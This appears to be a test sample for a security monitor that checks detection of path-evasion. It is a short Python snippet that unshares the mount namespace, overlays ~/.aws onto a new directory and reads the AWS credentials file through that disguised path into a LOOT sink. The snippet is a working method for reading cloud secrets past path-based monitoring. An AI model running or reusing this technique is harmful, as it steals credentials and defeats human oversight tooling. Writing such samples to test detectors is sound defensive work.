#: {"class": "path-evasion", "loader": "script", "include": ["raw"], "core": false, "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
def mount(a, b, t, fl, d=None):
    assert _c.mount(a.encode(), b.encode(), t.encode() if t else None, fl, d.encode() if d else None) == 0, ctypes.get_errno()

_c.unshare(0x20000)
for d in ("m", "u", "w"): os.mkdir(HOME + "/data/" + d)
mount("overlay", HOME + "/data/m", "overlay", 0, "lowerdir=%s/.aws,upperdir=%s/data/u,workdir=%s/data/w" % (HOME, HOME, HOME))
LOOT(open(HOME + "/data/m/credentials").read())
